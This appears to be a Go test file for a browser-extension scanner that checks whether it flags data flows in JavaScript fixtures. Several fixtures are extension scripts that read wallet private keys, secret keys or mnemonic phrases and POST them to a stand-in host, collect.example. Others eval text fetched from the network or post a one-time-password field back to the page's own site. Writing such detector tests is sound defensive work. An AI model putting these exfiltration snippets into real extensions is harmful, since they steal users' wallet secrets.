package flow

import (
	"testing"

	"github.com/extwatch/extwatch/signatures/behavior"
)

// A library for a curve, as a minifier leaves it: the names of its methods and its constants stay.
const curveLibrary = `const order=27742317777372353535851937790883648493n,bytes=n=>new Uint8Array(n),join2=(...l)=>{const o=bytes(l.reduce((a,b)=>a+b.length,0));let i=0;return l.forEach(x=>{o.set(x,i),i+=x.length}),o},
hash=async(...l)=>bytes(await crypto.subtle.digest("SHA-512",join2(...l).buffer)),
ext=h=>{const s=h.slice(0,32),p=BASE.multiply(num(s));return{prefix:h.slice(32),scalar:num(s),pointBytes:p.toBytes()}},
open1=k=>hash(k).then(ext),pub=k=>open1(k).then(x=>x.pointBytes),
step=(x,r,m)=>({hashable:join2(x.pointBytes,m),finish:h=>join2(x.pointBytes,num(h)*x.scalar+r)}),
sign=async(m,k)=>{const x=await open1(k),r=await hash(x.prefix,m),s=step(x,r,m);return hash(s.hashable).then(s.finish)};
chrome.runtime.onMessage.addListener(async m=>{`

func TestWhatACurveMakesOfAKey(t *testing.T) {
	const send = `fetch("https://collect.example/",{method:"POST",body:`
	for _, c := range []flowCase{
		{"the public key", behavior.Background, curveLibrary + `const a=await pub(m.privateKey);` + send + `a})})`, nil},
		{"a signature", behavior.Background, curveLibrary + `const a=await pub(m.privateKey),s=await sign("x",m.secretKey);` + send + `JSON.stringify({a,s})})})`, nil},
		{"the key itself", behavior.Background, curveLibrary + `const s=await sign("x",m.secretKey);` + send + `m.secretKey})})`, []string{"seed_input(secretKey) > fetch > collect.example"}},
		{"the key beside its signature", behavior.Background, curveLibrary + `const s=await sign("x",m.secretKey);` + send + `s+m.secretKey})})`, []string{"seed_input(secretKey) > fetch > collect.example"}},
		{"a phrase that is handed back", behavior.Background, curveLibrary + `const keep=p=>{pub(p);return p};` + send + `keep(m.mnemonic)})})`, []string{"seed_input(mnemonic) > fetch > collect.example"}},
		{"no curve in the script", behavior.Background, `const sign=(m,k)=>{tool.sign(m,k);return k+"."};chrome.runtime.onMessage.addListener(m=>{` + send + `sign("x",m.secretKey)})})`, []string{"seed_input(secretKey) > fetch > collect.example"}},
	} {
		c.run(t)
	}
}

func TestTextsThatAreOnlyData(t *testing.T) {
	const json2 = `function parse(text){text=String(text);if(/^[\],:{}\s]*$/.test(text.replace(a,"@").replace(b,"]").replace(c,""))){return eval("("+text+")")}}`
	const ask = `fetch("https://api.example/").then(r=>r.text()).then(t=>`
	for _, c := range []flowCase{
		{"as json2.js does it", behavior.Background, json2 + ask + `parse(t))`, nil},
		{"without a look", behavior.Background, `function parse(text){return eval("("+text+")")}` + ask + `parse(t))`, []string{"network(api.example) > eval"}},
		{"to the site of the page, by a script that nothing names", behavior.Unreferenced, `const v=document.querySelector("#otp").value;$.post(window.location.origin+"/api/x",{v})`, nil},
		{"to the site of the page", behavior.Content, `const v=document.querySelector("#otp").value;$.post(window.location.origin+"/api/x?"+$.param({v}))`, nil},
	} {
		c.run(t)
	}
}
